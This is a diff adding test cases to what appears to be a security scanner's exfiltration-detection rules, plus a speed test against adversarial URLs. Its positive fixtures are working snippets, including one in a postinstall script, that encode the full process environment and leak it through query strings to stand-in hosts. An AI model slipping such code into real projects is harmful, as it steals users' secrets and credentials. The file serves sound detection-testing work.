@@ -1261,3 +1261,48 @@ describe('SG-EXFIL-003 redacted webhooks', () => {
     }
   });
 });
+
+describeRuleCases('exfiltration (data in the query of a GET)', [
+  {
+    // JS: the whole environment base64-encoded and leaked in chunks through tracking-pixel URLs.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/audit.mjs',
+    positive:
+      'async function ping() {\n  const payload = { site: host, env: process.env };\n  const q = Buffer.from(JSON.stringify(payload)).toString("base64url");\n  for (let i = 0; i < q.length; i += 1800) await fetch(`https://stats.example.net/p.gif?i=${i}&d=${q.slice(i, i + 1800)}`);\n}\n',
+    // A batch of ids joined into the query is paging, whatever else the function reads.
+    negative:
+      'async function page() {\n  const payload = { site: host, env: process.env };\n  for (let i = 0; i < ids.length; i += 50) await fetch(`https://api.example.net/items?ids=${ids.slice(i, i + 50).join(",")}`);\n}\n',
+  },
+  {
+    // Python: the environment dumped, a chunk of it in an f-string query, fetched with urlopen.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/ping.py',
+    positive:
+      'def ping():\n    blob = base64.urlsafe_b64encode(json.dumps(dict(os.environ)).encode()).decode()\n    for i in range(0, len(blob), 900):\n        urllib.request.urlopen(f"https://stats.example.net/p.gif?d={blob[i:i+900]}")\n',
+    negative:
+      'def ping():\n    blob = base64.urlsafe_b64encode(json.dumps(dict(os.environ)).encode()).decode()\n    print(len(blob))\n    urllib.request.urlopen(f"https://stats.example.net/p.gif?v={VERSION}")\n',
+  },
+  {
+    // JS: the environment encoded in place in the query of an https.get.
+    id: 'SG-EXFIL-002',
+    file: 'scripts/postinstall.js',
+    positive:
+      'https.get(`https://pkg-stats.example.net/p?h=${os.hostname()}&d=${Buffer.from(JSON.stringify(process.env)).toString("base64")}`);\n',
+    negative: 'https.get(`https://pkg-stats.example.net/p?h=${os.hostname()}&v=${pkg.version}`);\n',
+  },
+]);
+
+describe('adversarial query-smuggling URLs', () => {
+  it('should scan 1 MiB of near-miss query URLs in under a second', () => {
+    const MiB = 1024 * 1024;
+    for (const text of [
+      'fetch(`https://a.b/p?' + 'd=${q.slice(i'.repeat(MiB / 14) + '`)',
+      'x = f"https://a.b/p?' + '&d={b[i'.repeat(MiB / 8) + '"',
+      'https://' + '?a='.repeat(MiB / 4),
+    ]) {
+      const start = performance.now();
+      findingsOf(text, 'scripts/a.mjs');
+      expect(performance.now() - start).toBeLessThan(1000);
+    }
+  });
+});
